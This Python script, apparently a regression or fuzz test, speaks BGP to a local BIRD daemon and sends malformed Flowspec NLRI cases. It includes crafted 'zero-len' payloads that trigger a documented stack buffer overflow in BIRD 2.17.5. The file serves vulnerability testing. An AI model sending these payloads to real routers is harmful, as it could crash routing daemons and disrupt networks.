#!/usr/bin/env python3
"""Malformed BGP Flowspec NLRI against a running BIRD (stdlib only).

A minimal BGP speaker (AS 65001, id 192.0.2.2) that connects to BIRD on
127.0.0.1:PORT (BIRD passive, `neighbor 127.0.0.1 as 65001`, channels flow4
and flow6), once per case. Each connection: OPEN (capabilities multiprotocol
1/133 and 2/133, route refresh, enhanced route refresh, 4-byte AS), KEEPALIVE,
wait for BIRD's End-of-RIB of the case's family, then one UPDATE built byte by
byte (ORIGIN, AS_PATH, MP_REACH_NLRI with next hop length 0 and the case's
NLRI bytes), then KEEPALIVE + ROUTE-REFRESH for the family. BIRD handles
messages in order, so a BEGIN/END-OF-RR (RFC 7313) answer proves that the
UPDATE was read and the session survived it (BIRD never echoes KEEPALIVEs).

One line per case: "<case> <answer>", answer one of
  notification C/S     BIRD sent NOTIFICATION code C subcode S
  up                   session still established after the round trip
  closed               connection closed without NOTIFICATION
  no-answer            nothing conclusive within the timeout
  no-session: ...      the session could not be established first
Exit status is nonzero only on a usage error (argparse: 2).

Upstream commit cac6a5e459bb (2.17.6): a Flowspec NLRI of length 0 makes
bgp_decode_nlri_flow4()/_flow6() test data[0] == FLOW_TYPE_DST_PREFIX, one
byte past the validated (empty) data, then flow_read_ip4_part() copies
BYTES(data[1]) bytes (up to 32) into a 4-byte ip4_addr on the stack (IPv6:
BYTES(data[1] - data[2]) into a 16-byte ip6_addr, which underflows to ~512 MB
when data[2] > data[1]). The bytes read are the next NLRI's, which the peer
chooses: the "zero-len" cases are 00 | 01 ff | 40 x 0x20, i.e. an empty flow,
then a flow of length 1 whose length byte 01 reads as the dst prefix type and
whose 0xff reads as the prefix length.
"""

import argparse
import select
import socket
import struct
import sys
import time

MY_AS = 65001
MY_ID = bytes([192, 0, 2, 2])
HOLD = 90

MSG_OPEN, MSG_UPDATE, MSG_NOTIFICATION, MSG_KEEPALIVE, MSG_RR = 1, 2, 3, 4, 5
AFI = {"flow4": 1, "flow6": 2}
SAFI_FLOW = 133

FILL = b"\x20" * 40


def cases():
    """(name, family, nlri bytes, what it is). Lengths below are the flow
    NLRI length header: 1 byte, or 2 bytes 0xfN NN for 12-bit lengths."""
    c = []
    # --- IPv4 ---
    c.append(("flow4-valid", "flow4", bytes.fromhex("03 01 08 0a"),
              "control: dst 10.0.0.0/8"))
    c.append(("flow4-valid-len2", "flow4", bytes.fromhex("f0 03 01 08 0a"),
              "control: same flow, length in the 2-byte form f0 03"))
    c.append(("flow4-zero-len", "flow4", bytes.fromhex("00 01 ff") + FILL,
              "THE BUG: empty flow; next NLRI 01|ff reads as dst prefix /255 "
              "-> 32-byte copy into a 4-byte ip4_addr on 2.17.5"))
    c.append(("flow4-zero-len-then-valid", "flow4",
              bytes.fromhex("00 03 01 08 0a"),
              "empty flow (data[0]=03, no prefix read) then dst 10/8"))
    c.append(("flow4-truncated", "flow4", bytes.fromhex("0a 01 18 0a 00"),
              "length 10, 4 bytes follow"))
    c.append(("flow4-len2-beyond", "flow4", bytes.fromhex("f0 ff 01 08 0a"),
              "2-byte length f0 ff (255) beyond the attribute"))
    c.append(("flow4-lone-byte", "flow4", bytes.fromhex("05"),
              "a single length byte (len < 2)"))
    c.append(("flow4-unknown-type", "flow4", bytes.fromhex("03 20 81 00"),
              "component type 0x20"))
    c.append(("flow4-label-type", "flow4", bytes.fromhex("03 0d 81 00"),
              "component type 13 (flow label, IPv6 only)"))
    c.append(("flow4-pxlen-33", "flow4",
              bytes.fromhex("07 01 21 0a 00 00 00 00"), "dst prefix /33"))
    c.append(("flow4-bad-order", "flow4",
              bytes.fromhex("06 02 08 0a 01 08 0a"),
              "src prefix before dst prefix"))
    # --- IPv6 ---
    c.append(("flow6-valid", "flow6", bytes.fromhex("07 01 20 00 20 01 0d b8"),
              "control: dst 2001:db8::/32"))
    c.append(("flow6-valid-len2", "flow6",
              bytes.fromhex("f0 07 01 20 00 20 01 0d b8"),
              "control: same flow, length in the 2-byte form f0 07"))
    c.append(("flow6-zero-len", "flow6", bytes.fromhex("00 01 ff") + FILL,
              "THE BUG: empty flow; next NLRI 01|ff|20 reads as dst prefix "
              "/255 offset 32 -> 28-byte copy into a 16-byte ip6_addr on 2.17.5"))
    c.append(("flow6-zero-len-offset", "flow6",
              bytes.fromhex("00 01 00 ff") + FILL,
              "THE BUG, IPv6 variant: 01|00|ff reads as /0 offset 255 -> "
              "BYTES(0 - 255) ~ 512 MB copy on 2.17.5"))
    c.append(("flow6-zero-len-then-valid", "flow6",
              bytes.fromhex("00 07 01 20 00 20 01 0d b8"),
              "empty flow (data[0]=07, no prefix read) then dst 2001:db8::/32"))
    c.append(("flow6-truncated", "flow6", bytes.fromhex("0a 01 20 00 20 01"),
              "length 10, 5 bytes follow"))
    c.append(("flow6-len2-beyond", "flow6", bytes.fromhex("f0 ff 01 08 00 20"),
              "2-byte length f0 ff (255) beyond the attribute"))
    c.append(("flow6-lone-byte", "flow6", bytes.fromhex("05"),
              "a single length byte (len < 2)"))
    c.append(("flow6-unknown-type", "flow6", bytes.fromhex("03 20 81 00"),
              "component type 0x20"))
    c.append(("flow6-pxlen-129", "flow6",
              bytes.fromhex("14 01 81 00") + bytes(17), "dst prefix /129"))
    c.append(("flow6-offset-gt-pxlen", "flow6",
              bytes.fromhex("04 01 08 10 20"), "dst prefix /8 offset 16"))
    c.append(("flow6-bad-order", "flow6",
              bytes.fromhex("0a 02 10 00 20 01 01 10 00 20 01"),
              "src prefix before dst prefix"))
    return c


# ---------------------------------------------------------------- messages

def msg(mtype, body=b""):
    return b"\xff" * 16 + struct.pack("!HB", 19 + len(body), mtype) + body


def attr(flags, code, value):
    if len(value) > 255:
        return struct.pack("!BBH", flags | 0x10, code, len(value)) + value
    return struct.pack("!BBB", flags, code, len(value)) + value


def open_msg():
    caps = b""
    for afi in (1, 2):                                    # multiprotocol
        caps += struct.pack("!BBHBB", 1, 4, afi, 0, SAFI_FLOW)
    caps += struct.pack("!BB", 2, 0)                      # route refresh
    caps += struct.pack("!BB", 70, 0)                     # enhanced RR
    caps += struct.pack("!BBI", 65, 4, MY_AS)             # 4-byte AS
    opt = struct.pack("!BB", 2, len(caps)) + caps
    return msg(MSG_OPEN, struct.pack("!BHH", 4, MY_AS, HOLD) + MY_ID +
               struct.pack("!B", len(opt)) + opt)


def update_msg(family, nlri):
    origin = attr(0x40, 1, b"\x00")                                  # IGP
    as_path = attr(0x40, 2, struct.pack("!BBI", 2, 1, MY_AS))        # SEQ
    # MP_REACH_NLRI: AFI, SAFI, next hop length 0, reserved 0, NLRI
    mp = attr(0x80, 14, struct.pack("!HBBB", AFI[family], SAFI_FLOW, 0, 0) + nlri)
    attrs = origin + as_path + mp
    return msg(MSG_UPDATE, struct.pack("!H", 0) + struct.pack("!H", len(attrs)) + attrs)


def rr_msg(family, subtype=0):
    return msg(MSG_RR, struct.pack("!HBB", AFI[family], subtype, SAFI_FLOW))


def notification_msg(code, sub):
    return msg(MSG_NOTIFICATION, struct.pack("!BB", code, sub))


def is_eor(body, family):
    """End-of-RIB for flowspec: UPDATE with only an empty MP_UNREACH."""
    try:
        return _is_eor(body, family)
    except (IndexError, struct.error):
        return False


def _is_eor(body, family):
    if len(body) < 4:
        return False
    wlen = struct.unpack("!H", body[:2])[0]
    alen = struct.unpack("!H", body[2 + wlen:4 + wlen])[0]
    a = body[4 + wlen:4 + wlen + alen]
    if wlen or len(body) != 4 + alen or not a:
        return False
    flags, code = a[0], a[1]
    hl = 4 if flags & 0x10 else 3
    v = a[hl:]
    return code == 15 and len(v) == 3 and struct.unpack("!HB", v) == (AFI[family], SAFI_FLOW)


class Closed(Exception):
    pass


class Peer:
    def __init__(self, sock):
        self.s = sock
        self.buf = b""

    def send(self, data):
        self.s.sendall(data)

    def recv(self, deadline):
        """Next message (type, body) or None on timeout; Closed on EOF."""
        while True:
            if len(self.buf) >= 19:
                ln = struct.unpack("!H", self.buf[16:18])[0]
                if ln < 19:
                    raise Closed("bad length %d" % ln)
                if len(self.buf) >= ln:
                    m, self.buf = self.buf[:ln], self.buf[ln:]
                    return m[18], m[19:]
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            r, _, _ = select.select([self.s], [], [], left)
            if not r:
                return None
            try:
                d = self.s.recv(65536)
            except (ConnectionResetError, OSError) as e:
                raise Closed(str(e))
            if not d:
                raise Closed("eof")
            self.buf += d


def establish(port, timeout):
    """Connect and reach Established; BIRD rejects (closes) connections while
    it waits out its error delay, so retry until `timeout`."""
    end = time.monotonic() + timeout
    last = "no attempt"
    while time.monotonic() < end:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError as e:
            last = "connect: %s" % e
            time.sleep(0.3)
            continue
        p = Peer(s)
        try:
            p.send(open_msg())
            got_open = got_ka = False
            dl = time.monotonic() + 10
            while not (got_open and got_ka):
                m = p.recv(dl)
                if m is None:
                    raise Closed("timeout in OpenSent")
                t, body = m
                if t == MSG_OPEN:
                    got_open = True
                    p.send(msg(MSG_KEEPALIVE))
                elif t == MSG_KEEPALIVE:
                    got_ka = True
                elif t == MSG_NOTIFICATION:
                    return None, "notification %d/%d on OPEN" % (body[0], body[1])
            return p, None
        except Closed as e:
            last = "rejected (%s)" % e
            s.close()
            time.sleep(0.3)
    return None, last


def run_case(port, case, timeout, verbose):
    name, family, nlri, _ = case
    p, why = establish(port, timeout)
    if p is None:
        return "no-session: " + why
    try:
        # Wait for BIRD's End-of-RIB of this family, so that the refresh
        # below is answered with BoRR rather than with a postponed EoR.
        dl = time.monotonic() + 3
        while True:
            m = p.recv(dl)
            if m is None or (m[0] == MSG_UPDATE and is_eor(m[1], family)):
                break
            if m[0] == MSG_NOTIFICATION:
                return "notification %d/%d before the UPDATE" % (m[1][0], m[1][1])
        upd = update_msg(family, nlri)
        if verbose:
            print("# %s UPDATE %s" % (name, upd.hex()), file=sys.stderr)
        p.send(upd + msg(MSG_KEEPALIVE) + rr_msg(family))
        dl = time.monotonic() + timeout
        while True:
            m = p.recv(dl)
            if m is None:
                return "no-answer"
            t, body = m
            if t == MSG_NOTIFICATION:
                return "notification %d/%d" % (body[0], body[1])
            if t == MSG_RR and len(body) == 4 and body[2] in (1, 2):
                # Up: say goodbye (Cease / administrative shutdown)
                p.send(notification_msg(6, 2))
                return "up"
    except Closed:
        return "closed"
    except OSError as e:
        return "closed (%s)" % e.__class__.__name__
    finally:
        p.s.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("port", type=int, nargs="?", help="BIRD's BGP port on 127.0.0.1")
    ap.add_argument("--case", action="append", default=[],
                    help="run only this case (repeatable); default all")
    ap.add_argument("--list", action="store_true", help="list cases and exit")
    ap.add_argument("--pause", type=float, default=0.0,
                    help="seconds to sleep between cases")
    ap.add_argument("--timeout", type=float, default=15.0,
                    help="seconds to wait for a session / an answer")
    ap.add_argument("-v", "--verbose", action="store_true",
                    help="print each UPDATE in hex on stderr")
    a = ap.parse_args()
    all_cases = cases()
    if a.list:
        for n, f, nlri, what in all_cases:
            print("%-28s %s  [%s]" % (n, what, nlri.hex(" ")))
        return 0
    if a.port is None:
        ap.error("port required")
    names = [c[0] for c in all_cases]
    for n in a.case:
        if n not in names:
            ap.error("unknown case %s (see --list)" % n)
    run = [c for c in all_cases if not a.case or c[0] in a.case]
    for i, c in enumerate(run):
        if i and a.pause:
            time.sleep(a.pause)
        print("%s %s" % (c[0], run_case(a.port, c, a.timeout, a.verbose)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
